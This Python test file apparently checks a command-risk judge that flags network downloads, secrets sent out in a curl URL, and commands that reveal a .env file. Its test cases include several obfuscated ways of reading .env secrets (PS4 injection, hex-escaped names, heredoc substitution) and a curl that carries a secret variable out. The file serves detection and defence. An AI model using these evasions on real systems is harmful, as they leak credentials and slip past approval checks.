"""What one command brings together: secrets that it shows, addresses it reaches, downloads that it runs."""

from __future__ import annotations

import pytest

from tests.approval.test_faults import judge
from tests.support import each
from whet.approval.risk import Shown


@each(
    ("command", "files"),
    [
        ("curl -o x https://a.b/c", ["c", "x"]),
        ("curl https://a.b/c.git", ["c"]),
        ("curl -O https://a.b/c?x#y", ["c"]),
        ("wget https://a.b/x/y.tgz", ["y.tgz"]),
        ("wget -Ofoo https://a.b/x", ["foo", "x"]),
        ("wget --output-document=foo https://a.b/x", ["foo", "x"]),
        ("curl -o https://a.b/c", ["c"]),
        ("curl -so x a.b/", ["a.b"]),
        ("curl https://a.b -o", ["a.b"]),
        ("git clone https://a.b/c.git", ["c"]),
        ("git clone https://a.b/c.git there", ["c", "there"]),
        ("git -C x clone https://a.b/c.git there", ["c", "there"]),
        ("git pull https://a.b/c.git other", []),
        ("git add ./x", []),
        ("curl https://a.b | tee y", ["a.b", "y"]),
        ("curl https://a.b > z", ["a.b", "z"]),
        ("curl https://a.b < z", ["a.b"]),
        ("cat a > z", []),
        ("cp a y", []),
        ("wget -P there https://a.b/c", ["c", "there"]),
        ("curl https://a.b/c; cp c d", ["c", "d"]),
        ("curl https://a.b/c; cp e f", ["c", "e", "f"]),
        ("curl https://a.b/c; ls c", ["c"]),
        ("cd x && curl -o y a.b/", ["x/a.b", "x/y"]),
        ("curl -o /y a.b/", ["/y", "a.b", "y"]),
        ("rsync a/b c", []),
        ("nc -o x a.b", ["x"]),
    ],
)
def test_the_files_that_come_from_the_network_are_known(command: str, files: list[str]) -> None:
    assert sorted(path.removeprefix("/code/proj/") for path in judge(command).downloads) == files


def test_a_variable_is_a_secret_by_its_value_too(monkeypatch: pytest.MonkeyPatch) -> None:
    """`sandbox.variables` may pass it on, whatever its name."""
    monkeypatch.setenv("HOOK", "https://hc-ping.example/6f9619ff-8b86-d011-b42d-00cf4fc964ff")
    monkeypatch.setenv("SITE", "https://a.example/docs")
    sends = "may send keys or passwords over the network"
    assert judge("curl https://a.b/?x=${HOOK}").reasons == (sends,)
    assert judge("curl https://a.b/?x=$SITE").reasons == ()


@each(
    "command",
    [
        "git log -L1,1:.env",
        "git -C sub show :sub/.env",
        "git --no-pager -C sub log -L1,1:.env",
        "file -f .env",
        "wc --files0-from=.env",
        "du --files0-from .env",
        "find -files0-from .env",
        r"printf '.env\0' | xargs -0 cat",
        r"printf '\x2eenv\0' | xargs -0 cat",
        "PS4='$(cat .env)'; set -x; ls",
        "export PS4='$(cat .env)'; set -x; ls",
        "cat <<E\nsee `cat .e*v` and\nE",
        "cat <<E\n\t$(cat .env)\nE",
        "[ a || cat .env ]",
        "for PS4 in '$(cat .e*v)'; do set -x; ls; done",
        "echo ${x#{};cat .env }",
    ],
)
def test_a_file_with_keys_that_a_command_names_is_shown_only_after_a_question(command: str) -> None:
    pieces = judge(command).commands
    assert any(isinstance(reason, Shown) for piece in pieces for reason in piece.reasons)


@each(
    "command",
    [
        "ls .env",
        "wc -l .env",
        "find . -name .env",
        "git log --oneline -- .env",
        "git log -L1,1:a.txt",
        r"printf '%s\0' a.txt | xargs -0 cat",
        "wc --files0-from=list",
    ],
)
def test_a_command_that_shows_no_keys_is_not_taken_for_one(command: str) -> None:
    assert [reason for reason in judge(command).reasons if "secrets" in reason] == []
